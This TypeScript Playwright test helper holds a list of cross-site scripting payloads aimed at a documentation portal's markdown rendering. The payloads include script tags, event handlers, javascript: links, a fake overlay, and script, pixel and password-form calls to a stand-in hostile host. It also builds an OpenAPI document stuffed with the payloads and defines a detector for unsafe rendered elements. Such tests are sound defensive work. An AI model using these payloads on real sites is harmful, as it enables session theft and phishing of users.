import type { Page } from "@playwright/test";

/** Markdown by which a publisher could try to act in the browser of whoever reads it. Each is broken or ends in its own way. */
export const hostileTexts = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//hostile.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  "![pixel](https://hostile.example/pixel.png)",
  '![pixel](https://hostile.example/"onerror="alert(1))',
  "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s><set attributeName=href to=javascript:alert(1)></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  "<style>* { display: none !important }</style>",
  "<p style='position:fixed;inset:0;z-index:9999'>Your session has ended</p>",
  "<link rel=stylesheet href=https://hostile.example/x.css>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)>",
  "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=https://hostile.example/x.swf>",
  "<form action=https://hostile.example><input name=password><button formaction=javascript:alert(1)>Sign in</button></form>",
  "<base href=https://hostile.example/><meta http-equiv=refresh content='0;url=https://hostile.example/'>",
  "<details open ontoggle=alert(1)><summary onclick=alert(1)>more</summary></details>",
  "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
  "<h1 onmouseover=alert(1) id=root name=body>Heading</h1>",
  "<a href=https://hostile.example target=_self rel=opener onclick=alert(1)>out</a>",
  "<a href='&#106;avascript:alert(1)'>a</a> <a href=' \u0001javascript:alert(1)'>b</a>",
  "[link](javascript:alert(1)) [link](JaVaScRiPt:alert(1)) [link](java&#10;script:alert(1)) [link](vbscript:alert(1))",
  "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [link](file:///etc/passwd)",
  "[link][1] <javascript:alert(1)>\n\n[1]: javascript:alert(1)",
  "<div><b><i><a href=x onclick=alert(1)><table><td></b><img src=x onerror=alert(1)",
  "<!--><img src=x onerror=alert(1)>--> <![CDATA[><img src=x onerror=alert(1)>]]> <?x <img src=x onerror=alert(1)>?>",
  "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
  '```"><img/src=x/onerror=alert(1)>\n</code></pre><img src=x onerror=alert(1)>\n```',
  "- [ ] <img src=x onerror=alert(1)>\n\n> <iframe src=https://hostile.example></iframe>",
];

/** An OpenAPI document with one of them wherever a description may stand. */
export function hostileDocument() {
  const markup = "<img src=x onerror=alert(1)>";
  const operation = (description: string) => ({
    get: {
      ...{ tags: [markup], summary: description, description },
      parameters: [{ name: markup, in: "query", description, schema: { type: "string", description } }],
      requestBody: { description, content: { [markup]: { schema: { title: markup, description } } } },
      responses: { "200": { description, content: { "text/html": { schema: { enum: [description] } } } } },
    },
  });
  return {
    openapi: "3.1.0",
    info: { title: markup, version: markup, description: hostileTexts.join("\n\n") },
    servers: [{ url: "javascript:alert(1)" }],
    tags: [{ name: markup, description: hostileTexts.join("\n\n") }],
    paths: Object.fromEntries(hostileTexts.map((text, at) => [`/${at}/${markup}`, operation(text)])),
  };
}

/**
 * What of the page could act, or pass for the portal's own: elements and attributes that no text from outside may bring, and links
 * that lead anywhere but to the web. The portal's own drawings are paths.
 */
export async function harmIn(page: Page): Promise<string[]> {
  return page.getByRole("main").evaluate((main) => {
    const kinds =
      "audio base embed form frame iframe img link math meta noscript object script style template title video " +
      "svg:not(:has(path)) [formaction] [srcdoc] [name=password] [name=body] #root";
    const found = [...main.querySelectorAll(kinds.split(" ").join(","))].map((each) => each.outerHTML);
    for (const element of main.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        const leadsAway = /href$|^src$/.test(name) && !/^(?:https?:|mailto:|\/(?!\/)|#)/.test(value);
        const coversUp = name === "style" && value.includes("fixed");
        if (name.startsWith("on") || leadsAway || coversUp) found.push(element.outerHTML);
      }
      const opens = element.localName === "a" && /^https?:/.test(element.getAttribute("href") ?? "");
      if (opens && !element.matches("[target=_blank][rel~=noopener]")) found.push(element.outerHTML);
    }
    return found;
  });
}
